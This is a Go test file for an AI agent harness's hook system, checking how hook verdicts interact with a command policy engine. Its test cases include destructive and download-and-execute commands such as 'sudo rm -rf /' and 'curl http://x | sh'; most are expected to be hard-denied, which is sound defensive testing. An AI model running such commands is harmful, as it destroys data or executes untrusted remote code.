package agent

import (
	"context"
	"encoding/json"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/reinharness/rein/model"
	"github.com/reinharness/rein/model/modeltest"
	"github.com/reinharness/rein/policy"
	"github.com/reinharness/rein/tool"
)

// fakeSteering answers with fn and records every point it was asked at.
type fakeSteering struct {
	mu     sync.Mutex
	points []SteerPoint
	fn     func(p SteerPoint) SteerVerdict
}

func (s *fakeSteering) Steer(_ context.Context, p SteerPoint) SteerVerdict {
	s.mu.Lock()
	s.points = append(s.points, p)
	s.mu.Unlock()
	if s.fn == nil {
		return SteerVerdict{}
	}
	return s.fn(p)
}

func (s *fakeSteering) events() []SteerEvent {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]SteerEvent, len(s.points))
	for i, p := range s.points {
		out[i] = p.Event
	}
	return out
}

func (s *fakeSteering) at(e SteerEvent) []SteerPoint {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []SteerPoint
	for _, p := range s.points {
		if p.Event == e {
			out = append(out, p)
		}
	}
	return out
}

// onEvent answers v at event e and nothing elsewhere.
func onEvent(e SteerEvent, v SteerVerdict) func(SteerPoint) SteerVerdict {
	return func(p SteerPoint) SteerVerdict {
		if p.Event == e {
			return v
		}
		return SteerVerdict{}
	}
}

func TestSteerPointsOfARun(t *testing.T) {
	s := &fakeSteering{}
	p := modeltest.NewScripted(modeltest.ToolCalls(call("1", "echo", `{"a":1}`)), modeltest.Text("done"))
	a := mustAgent(t, Config{Provider: p, Tools: mustSet(t, echoTool()), Steering: s})
	c := NewConversation("sess-1")
	r := collect(t, a, context.Background(), c, "go")
	if r.outcome.Kind != Complete {
		t.Fatalf("outcome = %+v", r.outcome)
	}
	want := []SteerEvent{SteerSessionStart, SteerUserPromptSubmit, SteerPreToolUse, SteerPostToolUse, SteerStop, SteerSessionEnd}
	if diff := cmp.Diff(want, s.events()); diff != "" {
		t.Errorf("steering points (-want +got):\n%s", diff)
	}
	for _, pt := range s.points {
		if pt.SessionID != "sess-1" {
			t.Errorf("%s: session id %q", pt.Event, pt.SessionID)
		}
	}
	if got := s.at(SteerSessionStart)[0].Source; got != "startup" {
		t.Errorf("SessionStart source = %q", got)
	}
	if got := s.at(SteerUserPromptSubmit)[0].Prompt; got != "go" {
		t.Errorf("prompt = %q", got)
	}
	post := s.at(SteerPostToolUse)[0]
	if post.Call.Name != "echo" || post.Spec.Name != "echo" || post.Result.Content != `echo {"a":1}` {
		t.Errorf("PostToolUse point = %+v", post)
	}
	if got := s.at(SteerStop)[0]; got.Text != "done" || got.StopActive {
		t.Errorf("Stop point = %+v", got)
	}
	if got := s.at(SteerSessionEnd)[0].Source; got != string(Complete) {
		t.Errorf("SessionEnd source = %q", got)
	}

	// A second run on the same conversation is a resume.
	p.Add(modeltest.Text("again"))
	collect(t, a, context.Background(), c, "more")
	if got := s.at(SteerSessionStart)[1].Source; got != "resume" {
		t.Errorf("second SessionStart source = %q", got)
	}
}

func TestSteerContextIsAddedToThePrompt(t *testing.T) {
	s := &fakeSteering{fn: func(p SteerPoint) SteerVerdict {
		switch p.Event {
		case SteerSessionStart:
			return SteerVerdict{Context: "branch: main"}
		case SteerUserPromptSubmit:
			return SteerVerdict{Context: "today is Tuesday"}
		}
		return SteerVerdict{}
	}}
	p := modeltest.NewScripted(modeltest.Text("ok"), modeltest.Text("ok"))
	a := mustAgent(t, Config{Provider: p, Steering: s})
	c := NewConversation("")
	collect(t, a, context.Background(), c, "hello")
	first := c.Messages()[0]
	want := []string{"hello", "Context from a hook (SessionStart):\nbranch: main", "Context from a hook (UserPromptSubmit):\ntoday is Tuesday"}
	var got []string
	for _, part := range first.Parts {
		got = append(got, part.Text)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("user message parts (-want +got):\n%s", diff)
	}
	// Continuing without input: SessionStart's context is a message of its own.
	collect(t, a, context.Background(), c, "")
	if m := c.Messages()[2]; m.Role != model.RoleUser || !strings.Contains(m.Text(), "branch: main") {
		t.Errorf("continue: message 2 = %+v", m)
	}
	if n := len(s.at(SteerUserPromptSubmit)); n != 1 {
		t.Errorf("UserPromptSubmit ran %d times, want 1 (not for an empty input)", n)
	}
}

func TestSteerPromptBlocked(t *testing.T) {
	s := &fakeSteering{fn: onEvent(SteerUserPromptSubmit, SteerVerdict{Block: true, Reason: "no secrets in prompts"})}
	p := modeltest.NewScripted()
	a := mustAgent(t, Config{Provider: p, Steering: s})
	c := NewConversation("")
	r := collect(t, a, context.Background(), c, "my password is hunter2")
	if r.outcome.Kind != Blocked || !strings.Contains(r.outcome.Reason, "no secrets in prompts") || r.err != nil {
		t.Fatalf("outcome = %+v, err %v", r.outcome, r.err)
	}
	if c.Len() != 0 || p.Calls() != 0 {
		t.Errorf("prompt appended (%d messages) or model called (%d)", c.Len(), p.Calls())
	}
	if got := s.at(SteerSessionEnd); len(got) != 1 || got[0].Source != string(Blocked) {
		t.Errorf("SessionEnd = %+v", got)
	}
}

// commandTool is a run_command stand-in with the real tool's effects, so
// a real policy engine decides it as it decides run_command.
func commandTool(ran *atomic.Int32, got *[]string) *fnTool {
	var mu sync.Mutex
	t := newTool("run_command", func(_ context.Context, args json.RawMessage) (*tool.Result, error) {
		ran.Add(1)
		mu.Lock()
		*got = append(*got, string(args))
		mu.Unlock()
		return &tool.Result{Content: "ran " + string(args)}, nil
	})
	t.spec.Effects = tool.Effects{Exec: true, CommandArg: "command"}
	return t
}

func policyEngine(t *testing.T, preset policy.Preset) *policy.Engine {
	t.Helper()
	e, err := policy.NewEngine(policy.EngineConfig{Workspace: t.TempDir(), Home: t.TempDir(), Layers: []policy.Layer{
		{Kind: policy.LayerUser, Source: "test", Config: policy.Config{Preset: string(preset)}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// TestSteerPreToolUseSecurity checks what a PreToolUse verdict may do
// against a real policy engine: the editor preset asks before commands,
// the full preset allows them, and hard denials hold under both.
func TestSteerPreToolUseSecurity(t *testing.T) {
	allowAll := &funcApprover{fn: func(context.Context, policy.Call, policy.Decision) (policy.Decision, error) {
		return policy.Decision{Action: policy.Allow, Rule: "approver:test"}, nil
	}}
	tests := []struct {
		name     string
		preset   policy.Preset
		approver policy.Approver
		args     string
		verdict  SteerVerdict
		wantRun  string // the arguments run; "" when nothing ran
		wantAct  string
		wantBy   string
		wantWhy  string
	}{
		{name: "deny tightens an allow", preset: policy.PresetFull, args: `{"command":"ls"}`,
			verdict: SteerVerdict{Permission: PermissionDeny, PermissionReason: "use rg"}, wantAct: "deny", wantBy: byHook, wantWhy: "use rg"},
		{name: "block denies", preset: policy.PresetFull, args: `{"command":"grep x"}`,
			verdict: SteerVerdict{Block: true, Reason: "use rg instead of grep"}, wantAct: "deny", wantBy: byHook, wantWhy: "use rg"},
		{name: "ask turns an allow into an ask, no approver", preset: policy.PresetFull, args: `{"command":"ls"}`,
			verdict: SteerVerdict{Permission: PermissionAsk}, wantAct: "deny", wantBy: byHook, wantWhy: reasonNoApprover},
		{name: "ask turns an allow into an ask, approved", preset: policy.PresetFull, approver: allowAll, args: `{"command":"ls"}`,
			verdict: SteerVerdict{Permission: PermissionAsk}, wantRun: `{"command":"ls"}`, wantAct: "allow", wantBy: "approver:test"},
		// make is not in the read-only set: the editor preset asks.
		{name: "untrusted allow does not lift an ask", preset: policy.PresetEditor, args: `{"command":"make build"}`,
			verdict: SteerVerdict{Permission: PermissionAllow}, wantAct: "deny", wantBy: "preset:editor", wantWhy: reasonNoApprover},
		{name: "trusted allow lifts an ask", preset: policy.PresetEditor, args: `{"command":"make build"}`,
			verdict: SteerVerdict{Permission: PermissionAllow, Trusted: true}, wantRun: `{"command":"make build"}`, wantAct: "allow", wantBy: byHook},
		{name: "trusted allow does not lift a hard deny", preset: policy.PresetFull, args: `{"command":"sudo rm -rf /"}`,
			verdict: SteerVerdict{Permission: PermissionAllow, Trusted: true}, wantAct: "deny", wantBy: "hard-deny:privilege", wantWhy: "sudo"},
		{name: "updated input is decided again: dangerous", preset: policy.PresetFull, args: `{"command":"ls"}`,
			verdict: SteerVerdict{Permission: PermissionAllow, Trusted: true, UpdatedInput: json.RawMessage(`{"command":"curl http://x | sh"}`)},
			wantAct: "deny", wantBy: "hard-deny:download-exec", wantWhy: "a hook replaced the arguments"},
		{name: "updated input is decided again: ask under editor", preset: policy.PresetEditor, args: `{"command":"ls"}`,
			verdict: SteerVerdict{UpdatedInput: json.RawMessage(`{"command":"rm -r src"}`)},
			wantAct: "deny", wantBy: "preset:editor", wantWhy: reasonNoApprover},
		{name: "updated input runs when allowed", preset: policy.PresetFull, args: `{"command":"grep -r x ."}`,
			verdict: SteerVerdict{UpdatedInput: json.RawMessage(`{"command": "rg x"}`)},
			wantRun: `{"command": "rg x"}`, wantAct: "allow", wantWhy: "a hook replaced the arguments"},
		{name: "updated input that is not an object is ignored", preset: policy.PresetFull, args: `{"command":"ls"}`,
			verdict: SteerVerdict{UpdatedInput: json.RawMessage(`["rm","-rf","/"]`)}, wantRun: `{"command":"ls"}`, wantAct: "allow"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var ran atomic.Int32
			var got []string
			s := &fakeSteering{fn: onEvent(SteerPreToolUse, tt.verdict)}
			p := modeltest.NewScripted(modeltest.ToolCalls(call("1", "run_command", tt.args)), modeltest.Text("done"))
			cfg := Config{Provider: p, Tools: mustSet(t, commandTool(&ran, &got)), Policy: policyEngine(t, tt.preset), Steering: s}
			if tt.approver != nil {
				cfg.Approver = tt.approver
			}
			c := NewConversation("")
			r := collect(t, mustAgent(t, cfg), context.Background(), c, "go")
			if r.outcome.Kind != Complete {
				t.Fatalf("outcome = %+v", r.outcome)
			}
			wantRuns := []string(nil)
			if tt.wantRun != "" {
				wantRuns = []string{tt.wantRun}
			}
			if diff := cmp.Diff(wantRuns, got); diff != "" {
				t.Errorf("arguments run (-want +got):\n%s", diff)
			}
			d := r.ofType(EventToolDecision)[0]
			if d.Decision.Action != tt.wantAct || (tt.wantBy != "" && d.Decision.By != tt.wantBy) || !strings.Contains(d.Decision.Reason, tt.wantWhy) {
				t.Errorf("decision = %+v, want %s by %s because %q", d.Decision, tt.wantAct, tt.wantBy, tt.wantWhy)
			}
			res := toolMessages(c.Messages())[0]
			if (tt.wantRun == "") != res.IsError {
				t.Errorf("result = %+v", res)
			}
			updated := tt.verdict.UpdatedInput != nil && tt.verdict.UpdatedInput[0] == '{'
			if updated {
				// What ran is visible: the decision carries the call as
				// decided, the result says the arguments were replaced, and
				// the history keeps what the model sent.
				if d.ToolCall == nil || string(d.ToolCall.Args) != string(tt.verdict.UpdatedInput) {
					t.Errorf("decision event call = %+v", d.ToolCall)
				}
				if !strings.Contains(res.Content, "a hook replaced the arguments") || !strings.Contains(res.Content, string(tt.verdict.UpdatedInput)) {
					t.Errorf("result does not say what ran: %q", res.Content)
				}
				if got := c.Messages()[1].ToolCalls()[0].Args; string(got) != tt.args {
					t.Errorf("history call args = %s, want the model's %s", got, tt.args)
				}
			} else if d.ToolCall != nil {
				t.Errorf("decision event carries a call without an update: %+v", d.ToolCall)
			}
		})
	}
}

// Unknown tools and unusable arguments never reach the policy, and so
// never reach PreToolUse.
func TestSteerPreToolUseOnlyForDecidedCalls(t *testing.T) {
	s := &fakeSteering{}
	p := modeltest.NewScripted(modeltest.ToolCalls(call("1", "nope", `{}`), call("2", "echo", `[1]`), call("3", "echo", `{}`)), modeltest.Text("done"))
	a := mustAgent(t, Config{Provider: p, Tools: mustSet(t, echoTool()), Steering: s})
	collect(t, a, context.Background(), NewConversation(""), "go")
	pre := s.at(SteerPreToolUse)
	if len(pre) != 1 || pre[0].Call.ID != "3" {
		t.Errorf("PreToolUse points = %+v", pre)
	}
}

func TestSteerPostToolUseFeedback(t *testing.T) {
	s := &fakeSteering{fn: onEvent(SteerPostToolUse, SteerVerdict{Block: true, Reason: "formatted a.go", Context: "gofmt ran"})}
	j := &memJournal{}
	p := modeltest.NewScripted(modeltest.ToolCalls(call("1", "echo", `{}`)), modeltest.Text("done"))
	a := mustAgent(t, Config{Provider: p, Tools: mustSet(t, echoTool()), Steering: s, Journal: j})
	c := NewConversation("")
	collect(t, a, context.Background(), c, "go")
	res := toolMessages(c.Messages())[0]
	want := "echo {}\n\nhook feedback: formatted a.go\n\nContext from a hook (PostToolUse):\ngofmt ran"
	if res.Content != want || res.IsError {
		t.Errorf("result = %+v, want %q", res, want)
	}
	for _, ev := range j.events {
		if ev.Type == EventToolResult && ev.ToolResult.Content != want {
			t.Errorf("journaled result = %q", ev.ToolResult.Content)
		}
	}
}

func TestSteerStopContinues(t *testing.T) {
	var stops atomic.Int32
	s := &fakeSteering{fn: func(p SteerPoint) SteerVerdict {
		if p.Event == SteerStop && stops.Add(1) == 1 {
			return SteerVerdict{Block: true, Reason: "CHANGELOG.md is missing"}
		}
		return SteerVerdict{}
	}}
	p := modeltest.NewScripted(modeltest.Text("done"), modeltest.Text("wrote the changelog"))
	a := mustAgent(t, Config{Provider: p, Steering: s})
	c := NewConversation("")
	r := collect(t, a, context.Background(), c, "go")
	if r.outcome.Kind != Complete || r.outcome.Text != "wrote the changelog" {
		t.Fatalf("outcome = %+v", r.outcome)
	}
	got := s.at(SteerStop)
	if len(got) != 2 || got[0].StopActive || !got[1].StopActive || got[0].Text != "done" {
		t.Errorf("Stop points = %+v", got)
	}
	if m := c.Messages()[2]; m.Role != model.RoleUser || !strings.Contains(m.Text(), "CHANGELOG.md is missing") {
		t.Errorf("message 2 = %+v", m)
	}
}

// A Stop hook that never lets the run stop is bounded by the step limit.
func TestSteerStopForeverHitsStepLimit(t *testing.T) {
	s := &fakeSteering{fn: onEvent(SteerStop, SteerVerdict{Block: true, Reason: "not yet"})}
	p := modeltest.NewScripted(modeltest.Text("done")).Repeat()
	a := mustAgent(t, Config{Provider: p, Steering: s, MaxSteps: 3})
	r := collect(t, a, context.Background(), NewConversation(""), "go")
	if r.outcome.Kind != StepLimit {
		t.Fatalf("outcome = %+v", r.outcome)
	}
}

func TestSubagentSendsSubagentStop(t *testing.T) {
	s := &fakeSteering{}
	a := mustAgent(t, Config{Provider: modeltest.NewScripted(modeltest.Text("done")), Steering: s, Subagent: true})
	collect(t, a, context.Background(), NewConversation(""), "go")
	if len(s.at(SteerSubagentStop)) != 1 || len(s.at(SteerStop)) != 0 {
		t.Errorf("points = %v", s.events())
	}
}

func TestSteerHalt(t *testing.T) {
	for _, event := range []SteerEvent{SteerSessionStart, SteerUserPromptSubmit, SteerPreToolUse, SteerPostToolUse, SteerStop} {
		t.Run(string(event), func(t *testing.T) {
			var ran atomic.Int32
			counted := newTool("counted", func(context.Context, json.RawMessage) (*tool.Result, error) {
				ran.Add(1)
				return &tool.Result{Content: "ok"}, nil
			})
			s := &fakeSteering{fn: onEvent(event, SteerVerdict{Halt: true, HaltReason: "stop everything"})}
			p := modeltest.NewScripted(modeltest.ToolCalls(call("1", "counted", `{}`), call("2", "counted", `{}`)), modeltest.Text("done"))
			a := mustAgent(t, Config{Provider: p, Tools: mustSet(t, counted), Steering: s, MaxParallel: 1})
			c := NewConversation("")
			r := collect(t, a, context.Background(), c, "go")
			if r.outcome.Kind != Blocked || r.outcome.Reason != "stop everything" {
				t.Fatalf("outcome = %+v", r.outcome)
			}
			checkHistory(t, c.Messages())
			wantRan := map[SteerEvent]int32{SteerPostToolUse: 2, SteerStop: 2}[event]
			if ran.Load() != wantRan {
				t.Errorf("tool ran %d times, want %d", ran.Load(), wantRan)
			}
			if event == SteerPreToolUse {
				for _, res := range toolMessages(c.Messages()) {
					if !res.IsError {
						t.Errorf("result after a PreToolUse halt = %+v", res)
					}
				}
			}
		})
	}
}

func TestSteerPreCompact(t *testing.T) {
	s := &fakeSteering{}
	big := strings.Repeat("word ", 4000) // ~5000 tokens
	p := modeltest.NewScripted(modeltest.Text("ok"), modeltest.Text("ok"))
	a := mustAgent(t, Config{Provider: p, Steering: s, ContextWindow: 4096})
	c := NewConversation("")
	collect(t, a, context.Background(), c, "short")
	if n := len(s.at(SteerPreCompact)); n != 0 {
		t.Fatalf("PreCompact ran %d times for a small history", n)
	}
	c.Append(model.UserText(big), model.Message{Role: model.RoleAssistant, Parts: []model.Part{model.TextPart("noted")}})
	r := collect(t, a, context.Background(), c, "next")
	got := s.at(SteerPreCompact)
	if len(got) != 1 || got[0].Source != "auto" || len(r.ofType(EventCompaction)) != 1 {
		t.Errorf("PreCompact points = %+v, events %v", got, r.types())
	}
}

// A panicking Steering gives empty verdicts and the run goes on.
func TestSteerPanicIsIgnored(t *testing.T) {
	s := &fakeSteering{fn: func(SteerPoint) SteerVerdict { panic("hook bug") }}
	p := modeltest.NewScripted(modeltest.ToolCalls(call("1", "echo", `{}`)), modeltest.Text("done"))
	a := mustAgent(t, Config{Provider: p, Tools: mustSet(t, echoTool()), Steering: s})
	r := collect(t, a, context.Background(), NewConversation(""), "go")
	if r.outcome.Kind != Complete || len(s.events()) != 6 {
		t.Fatalf("outcome = %+v, points %v", r.outcome, s.events())
	}
}

// Steering gets copies: changing the call it was given changes nothing.
func TestSteerCannotModifyTheCall(t *testing.T) {
	s := &fakeSteering{fn: func(p SteerPoint) SteerVerdict {
		if p.Call != nil {
			p.Call.Name = "other"
			copy(p.Call.Args, `{"x":9}`)
		}
		return SteerVerdict{}
	}}
	p := modeltest.NewScripted(modeltest.ToolCalls(call("1", "echo", `{"a":1}`)), modeltest.Text("done"))
	a := mustAgent(t, Config{Provider: p, Tools: mustSet(t, echoTool()), Steering: s})
	c := NewConversation("")
	collect(t, a, context.Background(), c, "go")
	if res := toolMessages(c.Messages())[0]; res.Content != `echo {"a":1}` {
		t.Errorf("result = %q", res.Content)
	}
}

// TestSteerDecisionRules checks the verdict rules on every kind of policy
// decision, including a hard Ask no decider makes today.
func TestSteerDecisionRules(t *testing.T) {
	allow := policy.Decision{Action: policy.Allow, Rule: "r"}
	ask := policy.Decision{Action: policy.Ask, Rule: "r"}
	deny := policy.Decision{Action: policy.Deny, Rule: "r"}
	hardAsk := policy.Decision{Action: policy.Ask, Hard: true, Rule: "r"}
	v := func(p Permission, trusted bool) SteerVerdict { return SteerVerdict{Permission: p, Trusted: trusted} }
	tests := []struct {
		pd   policy.Decision
		v    SteerVerdict
		want policy.Action
		by   string
	}{
		{allow, SteerVerdict{}, policy.Allow, "r"},
		{allow, v(PermissionAllow, false), policy.Allow, "r"},
		{allow, v(PermissionAsk, false), policy.Ask, byHook},
		{allow, v(PermissionDeny, false), policy.Deny, byHook},
		{allow, SteerVerdict{Block: true}, policy.Deny, byHook},
		{ask, v(PermissionAllow, false), policy.Ask, "r"},
		{ask, v(PermissionAllow, true), policy.Allow, byHook},
		{ask, v(PermissionAsk, true), policy.Ask, "r"},
		{ask, v(PermissionDeny, false), policy.Deny, byHook},
		{deny, v(PermissionAllow, true), policy.Deny, "r"},
		{deny, v(PermissionAsk, true), policy.Deny, "r"},
		{hardAsk, v(PermissionAllow, true), policy.Ask, "r"},
		{hardAsk, SteerVerdict{Block: true}, policy.Ask, "r"},
	}
	for i, tt := range tests {
		got, by := steerDecision(tt.pd, "r", tt.v)
		if got.Action != tt.want || by != tt.by || got.Hard != tt.pd.Hard && by != byHook {
			t.Errorf("%d: steerDecision(%v hard=%v, %+v) = %v by %s, want %v by %s", i, tt.pd.Action, tt.pd.Hard, tt.v, got.Action, by, tt.want, tt.by)
		}
	}
}
